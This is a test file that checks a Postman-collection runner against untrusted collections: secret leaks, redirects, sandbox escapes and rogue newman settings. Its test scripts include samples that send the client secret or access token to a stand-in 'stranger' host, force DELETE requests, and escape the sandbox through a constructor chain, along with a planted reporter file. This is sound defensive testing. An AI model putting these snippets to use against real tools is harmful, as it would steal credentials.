/** Files, answers, scripts and settings that are not ours: what reaches whom, what is printed, and how a run ends. */
import { mkdir, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { temporaryFolder } from "../support/build.js";
import { type Outcome, sigmaPostman } from "../support/cli.js";
import { type Host, listen, listenAsSigma } from "../support/servers.js";

const SECRET = "s3cret-of-the-run-0123456789";
const TOKEN = "opaque-token-of-the-run-0123456789";

let stranger: Host;
let sigma: Host;

beforeAll(async () => {
  stranger = await listen((_, outgoing) => outgoing.end("{}"));
  sigma = await listenAsSigma(TOKEN, () => stranger.url);
});

afterAll(() => {
  stranger.close();
  sigma.close();
});

interface Item {
  [key: string]: unknown;
}

/** A request as an export has it. */
function get(name: string, path: string, more: Item = {}): Item {
  return {
    name,
    request: {
      method: "GET",
      url: { raw: `{{baseUrl}}${path}`, host: ["{{baseUrl}}"], path: path.slice(1).split("/") },
    },
    ...more,
  };
}

function scripted(name: string, listen: "prerequest" | "test", ...exec: string[]): Item {
  return get(name, "/v2/fine", { event: [{ listen, script: { exec } }] });
}

interface Result {
  readonly outcome: Outcome;
  readonly folder: string;
  readonly printed: string;
  /** Outcomes by name. */
  readonly of: (name: string) => { outcome: string; isSent: boolean; status?: number; reasons: string[] } | undefined;
  readonly json: { stopped?: { message: string }; notices: string[]; failed: number } | undefined;
}

async function runs(
  collection: Item,
  args: readonly string[] = [],
  env: { readonly [name: string]: string } = {},
  prepare: (folder: string) => Promise<void> = async () => {},
): Promise<Result> {
  const folder = await temporaryFolder();
  await prepare(folder);
  await writeFile(
    join(folder, "collection.json"),
    JSON.stringify({
      info: { name: "theirs" },
      auth: { type: "bearer", bearer: [{ key: "token", value: "{{access_token}}" }] },
      ...collection,
    }),
  );
  const all = ["run", "collection.json", "--base-url", sigma.url, "--json", ...args];
  const outcome = await sigmaPostman(folder, all, {
    env: { SIGMA_CLIENT_ID: "client", SIGMA_CLIENT_SECRET: SECRET, ...env },
  });
  const printed = `${outcome.stdout}${outcome.stderr}`;
  const json = outcome.stdout.startsWith("{") ? JSON.parse(outcome.stdout) : undefined;
  return { outcome, folder, printed, json, of: (name) => json?.outcomes.find((one: Item) => one.name === name) };
}

const secretFree = ({ printed }: Result) => {
  expect(printed).not.toContain(SECRET);
  expect(printed).not.toContain(TOKEN);
};
const strangerHeard = () => stranger.heard.splice(0).map(({ text }) => text);
const sigmaHeard = () => sigma.heard.splice(0).map(({ method, url }) => `${method} ${url}`);

describe("what a collection asks for that is not one of its requests", () => {
  const post = { method: "POST", url: "", body: { mode: "raw", raw: "{{secret}}" } };

  it.each<[string, () => Item]>([
    [
      "requests of format v1 beside items of v2.1",
      () => ({
        id: "v1",
        order: ["r1"],
        requests: [
          {
            id: "r1",
            name: "v1",
            method: "POST",
            url: `${stranger.url}/v1`,
            dataMode: "raw",
            rawModeData: "{{secret}}",
          },
        ],
        item: [get("fine", "/v2/fine")],
      }),
    ],
    [
      "a request of a folder",
      () => ({
        item: [{ name: "both", request: { ...post, url: `${stranger.url}/both` }, item: [get("fine", "/v2/fine")] }],
      }),
    ],
    [
      "a proxy of a request",
      () => ({
        item: [
          get("fine", "/v2/fine", {}),
          {
            ...get("fine 2", "/v2/fine"),
            request: {
              ...(get("x", "/v2/fine").request as Item),
              proxy: { host: "127.0.0.1", port: Number(stranger.url.split(":")[2]), match: "*://*/*" },
            },
          },
        ],
      }),
    ],
    [
      "settings that switch protections off",
      () => ({
        protocolProfileBehavior: { strictSSL: false, followAuthorizationHeader: true, followOriginalHttpMethod: true },
        item: [get("fine", "/v2/fine")],
      }),
    ],
  ])("does not exist: %s", async (name, collection) => {
    const result = await runs(collection());
    expect(strangerHeard()).toEqual([]);
    expect(sigmaHeard().every((line) => /^(GET \/v2\/fine|POST \/v2\/auth\/token)$/.test(line))).toBe(true);
    expect(result.outcome.code, result.printed).toBe(0);
    if (name.startsWith("settings")) {
      expect(result.json?.notices).toEqual([
        expect.stringContaining("strictSSL"),
        expect.stringContaining("--allow-host"),
        expect.stringContaining("followOriginalHttpMethod"),
      ]);
    }
    secretFree(result);
  });

  it.each<[string, () => Item, RegExp]>([
    [
      "a path that is an object",
      () => ({ host: [stranger.host], path: { x: 1 } }),
      /path that is neither text nor a list/,
    ],
    ["a host that is a number", () => ({ host: 2_130_706_433, path: [] }), /host that is neither/],
    ["a path with a list in it", () => ({ host: [stranger.host], path: [["x"]] }), /path with a piece/],
    ["no host", () => ({ raw: "{{baseUrl}}/v2/fine", path: ["v2"] }), /no host/],
    ["a query that is a number", () => ({ host: ["{{baseUrl}}"], query: 1 }), /query is not a list/],
  ])("is refused, by name: %s", async (_, url, reason) => {
    const result = await runs({ item: [{ name: "odd one", request: { method: "GET", url: url() } }] });
    expect(result.outcome.code).toBe(2);
    expect(result.outcome.stderr).toMatch(/"odd one" can't be sent/);
    expect(result.outcome.stderr).toMatch(reason);
    expect([...strangerHeard(), ...sigmaHeard()]).toEqual([]);
  });
});

it("judges a request by its pieces, whatever raw says", async () => {
  const item = [
    {
      name: "Authenticate",
      request: {
        method: "POST",
        url: { raw: "{{tokenBaseURL}}", protocol: "http", host: stranger.host.split("."), path: ["token"] },
        body: {
          mode: "urlencoded",
          urlencoded: [
            { key: "grant_type", value: "client_credentials" },
            { key: "s", value: "{{secret}}" },
          ],
        },
      },
    },
    {
      name: "elsewhere",
      request: { method: "GET", url: { raw: "{{baseUrl}}/v2/fine", host: [stranger.host], path: ["v2"] } },
    },
    { name: "a text", request: `http://${stranger.host}/text` },
    get("fine", "/v2/fine"),
  ];
  const result = await runs({ item });
  expect(strangerHeard()).toEqual([]);
  expect(sigmaHeard()).toEqual(["POST /v2/auth/token", "GET /v2/fine"]);
  expect(result.of("elsewhere")?.reasons.join()).toContain("the token may not be sent to its URL");
  secretFree(result);
});

describe("what scripts do", () => {
  it("lets out nothing to strangers and no write, and says what a script tried", async () => {
    const tries: [string, string[]][] = [
      ["method", ['pm.request.method = "DELETE";']],
      ["method in odd case", ['pm.request.method = "dElEtE";']],
      ["override", ['pm.request.headers.add({ key: "X-HTTP-Method-Override", value: "DELETE" });']],
      ["host", [`pm.request.url.update("${stranger.url}/updated");`]],
      ["broken url", ["pm.request.url.path = {};", `pm.request.url.host = ["${stranger.host}"];`]],
      ["no skipping", [`pm.execution.skipRequest = () => {};`, `pm.request.url.update("${stranger.url}/unskipped");`]],
      [
        "send",
        [
          `pm.sendRequest({ url: "${stranger.url}/sent", method: "POST", body: { mode: "raw", raw: pm.variables.get("secret") } }, () => {});`,
        ],
      ],
      ["send in the query", [`pm.sendRequest("${stranger.url}/q?" + pm.variables.get("access_token"), () => {});`]],
      [
        "send a write",
        ['pm.sendRequest({ url: pm.variables.get("baseUrl") + "/v2/teams/1", method: "DELETE" }, () => {});'],
      ],
      ["run another", ['if (pm.execution.runRequest) pm.execution.runRequest("x");']],
      ["base", [`pm.environment.set("baseUrl", "${stranger.url}");`]],
    ];
    const result = await runs({ item: tries.map(([name, exec]) => scripted(name, "prerequest", ...exec)) });
    expect(strangerHeard()).toEqual([]);
    expect(sigmaHeard().filter((line) => !/^(GET|POST \/v2\/auth\/token)/.test(line))).toEqual([]);
    expect(result.outcome.code).toBe(1);
    expect(result.of("method")).toMatchObject({ outcome: "failed", isSent: false });
    expect(result.of("method")?.reasons[0]).toMatch(/^DELETE .*\/v2\/fine was not sent: it writes/);
    expect(result.of("override")?.reasons[0]).toMatch(/it writes/);
    expect(result.of("broken url")?.isSent).toBe(false);
    expect(result.of("no skipping")?.isSent).toBe(false);
    expect(result.of("send")?.reasons[0]).toMatch(/--allow-host 127/);
    expect(result.of("send a write")?.reasons[0]).toMatch(/DELETE .* was not sent/);
    secretFree(result);
  });

  it("ends with 1 and a sentence, whatever they throw and wherever", async () => {
    const result = await runs({
      item: [
        scripted("timer", "test", 'setTimeout(() => { throw new Error("late " + pm.variables.get("secret")); }, 5);'),
        scripted("promise", "test", 'Promise.reject(new Error("rejected " + pm.variables.get("access_token")));'),
        scripted(
          "exit",
          "test",
          'try { this.constructor.constructor("return process")().exit(0); } catch (error) {}',
          "try { process.exit(0); } catch (error) {}",
        ),
        scripted("loop", "prerequest", "while (true) {}"),
        get("behind", "/v2/fine"),
      ],
    });
    expect(result.outcome.code, result.printed).toBe(1);
    expect(result.of("timer")).toMatchObject({ outcome: "failed" });
    expect(result.printed).toMatch(/loop/);
    expect(result.printed).not.toMatch(/\n {4}at /);
    secretFree(result);
    sigmaHeard();
  });

  it("counts a request once that a script sends again, as it ended", async () => {
    const again = [
      "const count = Number(pm.variables.get('count') || 0) + 1;",
      "pm.variables.set('count', count);",
      "pm.test('third', () => pm.expect(count).to.equal(3));",
      "if (count < 3) pm.execution.setNextRequest(pm.info.requestId);",
    ];
    const result = await runs({ item: [scripted("again", "test", ...again), get("last", "/v2/fine")] });
    expect(result.outcome.code, result.printed).toBe(0);
    expect(sigmaHeard().filter((line) => line === "GET /v2/fine")).toHaveLength(4);
    expect(result.json).toMatchObject({ requests: 3, passed: 3 });
  });
});

describe("what answers do", () => {
  it("follows no redirect to another origin, and says where it was sent", async () => {
    const statuses = [301, 302, 303, 307, 308];
    const item = [
      ...statuses.map((status) => get(String(status), `/to-stranger-${status}`)),
      get("here", "/here"),
      scripted("sent", "prerequest", 'pm.sendRequest(pm.variables.get("baseUrl") + "/to-stranger-302", () => {});'),
    ];
    const result = await runs({
      item,
      protocolProfileBehavior: { followAuthorizationHeader: true, followRedirects: true },
    });
    expect(strangerHeard()).toEqual([]);
    for (const status of statuses) {
      expect(result.of(String(status))).toMatchObject({ outcome: "failed", status });
      expect(result.of(String(status))?.reasons.join()).toContain(
        `redirected to ${stranger.url}/taken (${status}), which was not followed`,
      );
    }
    expect(result.of("here")).toMatchObject({ outcome: "passed", status: 200 });
    expect(result.of("sent")?.reasons.join()).toContain("not followed");
    expect(result.outcome.code).toBe(1);
    secretFree(result);
    sigmaHeard();
  });

  it.each([302, 307, 308])("sends the secret nowhere when the token endpoint answers %i", async (status) => {
    const tokens = await listen((_, outgoing) =>
      outgoing.writeHead(status, { location: `${stranger.url}/token` }).end(),
    );
    const folder = await temporaryFolder();
    await writeFile(join(folder, "c.json"), JSON.stringify({ info: { name: "c" }, item: [get("fine", "/v2/fine")] }));
    const outcome = await sigmaPostman(folder, ["run", "c.json", "--base-url", tokens.url], {
      env: { SIGMA_CLIENT_ID: "client", SIGMA_CLIENT_SECRET: SECRET },
    });
    tokens.close();
    expect(strangerHeard()).toEqual([]);
    expect(outcome.code).toBe(1);
    expect(outcome.stderr).toContain(`it responded with ${status}`);
  });

  it("bounds each from its start to its end, and in size", async () => {
    const odd = ["101", "hang-up", "bomb", "trickle-body", "here", "trickle-headers", "here", "continue"];
    const item = odd.map((name, index) => get(name === "here" ? `here ${index}` : name, `/${name}`));
    const result = await runs({ item }, ["--timeout", "1500", "--max-response", "1000000"]);
    expect(result.outcome.code, result.printed).toBe(1);
    expect(result.of("101")?.reasons.join()).toMatch(/101/);
    expect(result.of("hang-up")).toMatchObject({ outcome: "failed" });
    expect(result.of("bomb")?.reasons.join()).toMatch(/larger than 1000000 bytes/);
    expect(result.json?.stopped?.message).toMatch(/3 requests in a row got no response/);
    const slow = await runs({ item: item.slice(3) }, ["--timeout", "1500"]);
    for (const name of ["trickle-body", "trickle-headers", "continue"]) {
      expect(slow.of(name)?.reasons.join(), name).toMatch(/no complete response within 1500 ms/);
    }
    sigmaHeard();
  });
});

describe("newman's own settings", () => {
  it("take no part, wherever they lie", async () => {
    const marker = "loaded-by-newman";
    const settings = async (folder: string) => {
      await writeFile(
        join(folder, "reporter.js"),
        `require("fs").writeFileSync(${JSON.stringify(join(folder, marker))}, "x");`,
      );
      const content = JSON.stringify({
        run: {
          folder: "none",
          insecure: true,
          reporters: [join(folder, "reporter.js"), "cli"],
          iterationData: [{ baseUrl: stranger.url }],
          exportEnvironment: join(folder, marker),
        },
      });
      await writeFile(join(folder, ".newmanrc"), content);
      await mkdir(join(folder, ".postman"));
      await writeFile(join(folder, ".postman", "newmanrc"), content);
      await writeFile(join(folder, "home"), "");
    };
    let home = "";
    const result = await runs({ item: [get("fine", "/v2/fine")] }, [], {}, async (folder) => {
      home = folder;
      await settings(folder);
    });
    expect(result.outcome.code, result.printed).toBe(0);
    const again = await runs({ item: [get("fine", "/v2/fine")] }, [], { HOME: home });
    expect(again.outcome.code, again.printed).toBe(0);
    const { existsSync } = await import("node:fs");
    expect(existsSync(join(home, marker))).toBe(false);
    expect(strangerHeard()).toEqual([]);
    secretFree(result);
    sigmaHeard();
  });
});

describe("acting as somebody else", () => {
  const exchange = {
    name: "Act as another user",
    request: {
      method: "POST",
      url: { raw: "{{tokenBaseURL}}", host: ["{{tokenBaseURL}}"] },
      body: {
        mode: "urlencoded",
        urlencoded: [{ key: "grant_type", value: "urn:ietf:params:oauth:grant-type:token-exchange" }],
      },
    },
  };

  it.each<[string, Item[]]>([
    ["missing", [get("fine", "/v2/fine")]],
    ["behind others", [get("fine", "/v2/fine"), exchange]],
    [
      "another grant",
      [
        {
          ...exchange,
          request: {
            ...exchange.request,
            body: { mode: "urlencoded", urlencoded: [{ key: "grant_type", value: "refresh_token" }] },
          },
        },
        get("fine", "/v2/fine"),
      ],
    ],
  ])("sends nothing where its request is not what it should be: %s", async (_, item) => {
    const result = await runs({ item }, ["--var", "impersonate_user=someone@example.com"]);
    expect(result.outcome.code).toBe(2);
    expect(result.outcome.stderr).toContain("Act as another user");
    expect(sigmaHeard()).toEqual([]);
  });

  it("sends nothing in one's own name where its scripts store no token", async () => {
    const result = await runs({ item: [exchange, get("fine", "/v2/fine")] }, [
      "--var",
      "impersonate_user=someone@example.com",
    ]);
    expect(result.outcome.code).toBe(1);
    expect(sigmaHeard().filter((line) => !line.includes("/auth/token"))).toEqual([]);
  });
});

it("never prints the password of --base-url", async () => {
  const folder = await temporaryFolder();
  await writeFile(join(folder, "c.json"), JSON.stringify({ info: { name: "c" }, item: [get("fine", "/v2/fine")] }));
  for (const url of [
    "https://me:hunter22@example.com",
    "https://me:hun/ter22@example.com",
    "me:hunter22@example.com",
    "https://me:hunter22@{{x}}",
  ]) {
    const outcome = await sigmaPostman(folder, ["run", "c.json", "--base-url", url], {
      env: { SIGMA_CLIENT_ID: "client", SIGMA_CLIENT_SECRET: SECRET },
    });
    expect(outcome.code).toBe(2);
    expect(`${outcome.stdout}${outcome.stderr}`).not.toMatch(/hun|ter22/);
  }
});
